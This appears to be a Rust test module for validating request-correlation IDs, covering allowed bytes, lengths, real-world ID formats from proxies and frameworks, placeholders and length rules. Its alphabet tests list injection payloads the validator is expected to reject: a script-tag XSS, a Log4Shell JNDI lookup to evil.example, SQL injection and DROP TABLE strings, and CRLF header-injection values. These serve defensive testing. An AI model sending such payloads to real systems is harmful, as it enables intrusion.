//! The values that are IDs: alphabet, length, white space, and values of other systems.

use correlation_core::Policy;

use super::case::{C1, CID, R1, TP, makes};
use super::{Case, Rule};

pub(super) fn alphabet() -> Vec<Case> {
    let all = String::from_utf8_lossy(ALLOWED);
    let mut cases = vec![Case::kept("every allowed byte at once", all).with(CID, ALLOWED)];
    for byte in ALLOWED {
        // The character comes twice, because a single `-` is a placeholder.
        let id = char::from(*byte).to_string().repeat(2);
        cases.push(Case::kept(format!("allowed byte {id}"), &id).with(CID, &id));
    }
    let forbidden = (b'!'..=b'~').filter(|byte| !ALLOWED.contains(byte));
    for byte in forbidden.chain([b' ', b'\t', 0x80, 0xC3, 0xFF]) {
        let value = [b"ab", &[byte][..], b"cd"].concat();
        cases.push(Case::fresh(format!("forbidden byte {byte:#04x}")).with(CID, value));
    }
    for text in [
        "é",
        "заказ-1",
        "日本",
        "🦀",
        "١٢٣",
        "\"c-1\"",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "1' OR '1'='1",
        "*/ DROP TABLE users --",
        "%0d%0aSet-Cookie:%20a=b",
        "\\r\\nX: y",
        "{\"id\":1}",
        "a,b",
        "a;b",
        "\u{a0}c-1",
    ] {
        cases.push(Case::fresh(format!("text {text}")).with(CID, text));
    }
    cases
}

pub(super) fn lengths() -> Vec<Case> {
    let mut cases = vec![
        Case::fresh("empty").with(CID, ""),
        Case::fresh("white space only").with(CID, " \t "),
    ];
    for len in [1, 2, 36, 40, 41, 127, 128] {
        cases.push(long_enough(len));
    }
    for len in [129, 200, 255, 256, 8192] {
        cases.push(too_long(len));
    }
    for (name, value) in [
        ("spaces before", "   c-1"),
        ("spaces after", "c-1   "),
        ("tabs around", "\tc-1\t"),
        ("both around", " \t c-1\t \t"),
    ] {
        cases.push(Case::kept(name, "c-1").with(CID, value));
    }
    let padded = [&b" ".repeat(200)[..], &b"a".repeat(128), &b" ".repeat(200)].concat();
    cases.push(Case::kept("white space does not count", "a".repeat(128)).with(CID, padded));
    cases
}

pub(super) fn real_world() -> Vec<Case> {
    [
        ("UUID version 1", "c232ab00-9414-11ec-b3c8-9f6bdeced846"),
        ("UUID version 7", "01920a5c-0e8b-7c3d-9f21-8a4b6c0d1e2f"),
        ("UUID in upper case", "F81D4FAE-7DEC-41D0-A765-00A0C91E6BF6"),
        ("UUID, max", "ffffffff-ffff-ffff-ffff-ffffffffffff"),
        (
            "UUID as URN",
            "urn:uuid:f81d4fae-7dec-41d0-a765-00a0c91e6bf6",
        ),
        ("Envoy, sampled", "f81d4fae-7dec-91d0-a765-00a0c91e6bf6"),
        (
            "Envoy, forced by server",
            "f81d4fae-7dec-a1d0-a765-00a0c91e6bf6",
        ),
        (
            "Envoy, forced by client",
            "f81d4fae-7dec-b1d0-a765-00a0c91e6bf6",
        ),
        ("nginx", "63a9c1f0b7e84d2f9a5c3e1d7b6f8042"),
        ("HAProxy", "7F000001:8296_7F00001E:1F90_4F7B0A69_0003:790A"),
        (
            "Kong, uuid#counter",
            "f81d4fae-7dec-41d0-a765-00a0c91e6bf6#42",
        ),
        ("Kong, tracker", "127.0.0.1-8000-7-1234-42-1724500000.123"),
        ("mod_unique_id", "XRYmW38AAAEAAHv2@bcAAAAA"),
        ("ASP.NET", "0HLEACIU86PT7:00000005"),
        (
            "CloudFront",
            "k6WGMNkEzR5BEM_SaF47gjtX9zBDO2m349OY2an0QPEaUum1ZOLrow==",
        ),
        ("ALB", "Root=1-67891233-abcdef012345678912345678"),
        ("chi", "worker-7/8Fq2vKd1Zp-000042"),
        ("Fastify", "req-1k"),
        ("ULID", "01ARZ3NDEKTSV4RRFFQ69G5FAV"),
        ("KSUID", "0ujtsYcgvSTl8PAuAdqWYSMnLOv"),
        ("nanoid", "V1StGXR8_Z5jdHi6B-myT"),
        ("base64", "3q2+7wABAgMEBQYHCAkKCw=="),
        (
            "traceparent as text",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        ),
        (".NET, hierarchical", "|7d5f6a3c-4e2b9f1a.1.2."),
        ("number", "12345678901234567890"),
        ("tilde", "~tenant~42"),
    ]
    .into_iter()
    .map(|(name, id)| Case::kept(format!("as sent by {name}"), id).with(CID, id))
    .collect()
}

/// The values that clients without an ID send.
pub(super) fn placeholders() -> Vec<Case> {
    let nil = "00000000-0000-0000-0000-000000000000";
    let mut cases: Vec<_> = [
        "-",
        "null",
        "Null",
        "NULL",
        "undefined",
        "none",
        "None",
        "nil",
        "unknown",
        "UNKNOWN",
        " null ",
        "null, null",
        nil,
        "00000000000000000000000000000000",
    ]
    .into_iter()
    .flat_map(|text| {
        [
            Case::fresh(format!("placeholder {text}")).with(CID, text),
            Case::kept(format!("placeholder {text}, then request ID"), "r-1")
                .from("x-request-id")
                .sends(&[(CID, text), R1]),
        ]
    })
    .collect();
    for id in ["--", "null-1", "nulls", "0", "00000000", "nan", "empty"] {
        cases.push(Case::kept(format!("no placeholder, {id}"), id).with(CID, id));
    }
    cases.push(makes("a placeholder beside an ID", &[(CID, "null"), C1]));
    cases
}

pub(super) fn rules() -> Vec<Rule> {
    let max = |max| Policy::new().max_len(max);
    vec![
        Rule::new("max_len 36", max(36), [long_enough(36), too_long(37)]),
        // The trace goes on. Only its trace-id is too long to be the ID.
        Rule::new(
            "max_len 31",
            max(31),
            [long_enough(31), makes("a trace-id", &[TP]).traced()],
        ),
        Rule::new(
            "max_len 255",
            max(255),
            [129, 200, 255]
                .map(long_enough)
                .into_iter()
                .chain([256, 8192].map(too_long)),
        ),
    ]
}

fn long_enough(len: usize) -> Case {
    let id = "0123456789".repeat(len / 10 + 1)[..len].to_owned();
    Case::kept(format!("{len} bytes"), &id).with(CID, &id)
}

fn too_long(len: usize) -> Case {
    Case::fresh(format!("{len} bytes")).with(CID, "x".repeat(len))
}

const ALLOWED: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.:+/=#@|~";
